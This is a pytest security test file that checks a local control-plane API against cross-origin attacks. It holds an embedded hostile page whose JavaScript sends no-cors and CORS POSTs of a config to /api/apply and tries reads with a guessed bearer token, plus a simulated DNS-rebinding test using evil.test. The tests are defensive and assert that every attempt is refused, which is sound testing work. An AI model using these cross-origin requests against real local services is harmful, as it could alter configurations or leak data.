"""A real headless Chromium opens a page from another origin that attacks the control plane: a CORS "simple
request" POST to /api/apply (no preflight needed) and a read of /api/resources. Both fail; the config is unchanged."""

from __future__ import annotations

import json
import queue
import shutil
import subprocess
import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import pytest

from tests.security.conftest import SAMPLES, Server

pytestmark = [pytest.mark.browser, pytest.mark.timeout(180)]

CHROMIUM = shutil.which("chromium") or shutil.which("chromium-browser")
SHIFT = (SAMPLES / "tcp-echo-shift" / "tcp-echo-20-v2.yaml").read_text()

PAGE = """<!doctype html><html><body><form id="f" method="POST" enctype="text/plain" target="sink"></form>
<iframe name="sink"></iframe><script>
const api = "http://127.0.0.1:%(port)d";
const body = %(body)s;
async function attempt(fn) { try { return await fn(); } catch (e) { return "error: " + e; } }
(async () => {
  const out = {};
  out.simplePost = await attempt(async () => {
    const r = await fetch(api + "/api/apply?source=evil.yaml",
      {method: "POST", mode: "no-cors", headers: {"Content-Type": "text/plain"}, body});
    return "opaque:" + r.type;
  });
  out.corsPost = await attempt(async () => {
    const r = await fetch(api + "/api/apply?source=evil.yaml",
      {method: "POST", headers: {"Content-Type": "text/plain"}, body});
    return "read:" + r.status + ":" + await r.text();
  });
  out.read = await attempt(async () => {
    const r = await fetch(api + "/api/resources");
    return "read:" + r.status + ":" + await r.text();
  });
  out.readWithToken = await attempt(async () => {
    const r = await fetch(api + "/api/resources", {headers: {"Authorization": "Bearer guess"}});
    return "read:" + r.status + ":" + await r.text();
  });
  await fetch("/report", {method: "POST", body: JSON.stringify(out)});
})();
</script></body></html>"""


class _Evil(BaseHTTPRequestHandler):
    page = b""
    reports: queue.Queue[dict[str, Any]] = queue.Queue()

    def do_GET(self) -> None:
        self.send_response(200)
        self.send_header("Content-Type", "text/html")
        self.send_header("Content-Length", str(len(self.page)))
        self.end_headers()
        self.wfile.write(self.page)

    def do_POST(self) -> None:
        data = self.rfile.read(int(self.headers.get("Content-Length", "0")))
        self.reports.put(json.loads(data))
        self.send_response(204)
        self.end_headers()

    def log_message(self, *args: object) -> None:
        pass


@pytest.fixture
def evil_site(server: Server) -> Iterator[tuple[str, queue.Queue[dict[str, Any]]]]:
    handler = type("Evil", (_Evil,), {"page": (PAGE % {"port": server.port, "body": json.dumps(SHIFT)}).encode(),
                                      "reports": queue.Queue()})  # fmt: skip
    httpd = ThreadingHTTPServer(("127.0.0.1", 0), handler)
    thread = threading.Thread(target=httpd.serve_forever, daemon=True)
    thread.start()
    try:
        yield f"http://localhost:{httpd.server_address[1]}/", handler.reports
    finally:
        httpd.shutdown()
        httpd.server_close()


@pytest.mark.skipif(CHROMIUM is None, reason="needs Debian's chromium (.ci/run installs it)")
def test_cross_origin_page_cannot_change_or_read_config(
    server: Server, evil_site: tuple[str, queue.Queue[dict[str, Any]]], tmp_path: Path
) -> None:
    assert CHROMIUM is not None
    url, reports = evil_site
    before, generation = server.resources(), server.generation()
    log_start = server.cp.log_path.stat().st_size
    browser = subprocess.Popen(
        [CHROMIUM, "--headless", "--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run",
         "--disable-background-networking", "--disable-component-update", "--disable-sync",
         f"--user-data-dir={tmp_path / 'profile'}", url],
        stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL,
    )  # fmt: skip
    try:
        report = reports.get(timeout=120)
    finally:
        browser.terminate()
        try:
            browser.wait(15)
        except subprocess.TimeoutExpired:
            browser.kill()
            browser.wait(15)
    # The no-cors POST is sent but opaque; the CORS reads fail in the browser (no CORS grant from the server).
    assert report["simplePost"] == "opaque:opaque", report
    for key in ("corsPost", "read", "readWithToken"):
        assert report[key].startswith("error: TypeError"), report
    assert server.resources() == before
    assert server.generation() == generation
    # The requests did reach the server and were refused there, not only by the browser.
    log = server.cp.log_path.read_bytes()[log_start:].decode()
    assert "refused POST /api/apply" in log
    assert "refused GET /api/resources" in log


@pytest.mark.skipif(CHROMIUM is None, reason="needs Debian's chromium (.ci/run installs it)")
def test_dns_rebinding_read_is_refused(server: Server, tmp_path: Path) -> None:
    """After DNS rebinding a page's own host name resolves to 127.0.0.1, so its reads are same-origin for the
    browser; here Chromium's resolver maps evil.test to loopback and loads the API under that name."""
    assert CHROMIUM is not None
    url = f"http://evil.test:{server.port}/api/resources"
    out = subprocess.run(
        [CHROMIUM, "--headless", "--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run",
         "--disable-background-networking", "--disable-component-update", "--disable-sync",
         "--host-resolver-rules=MAP evil.test 127.0.0.1", f"--user-data-dir={tmp_path / 'profile'}",
         "--dump-dom", url],
        capture_output=True, text=True, timeout=120,
    )  # fmt: skip
    assert "does not name this server" in out.stdout, out.stdout[-2000:]
    assert "tcp-echo" not in out.stdout  # no resource names leaked
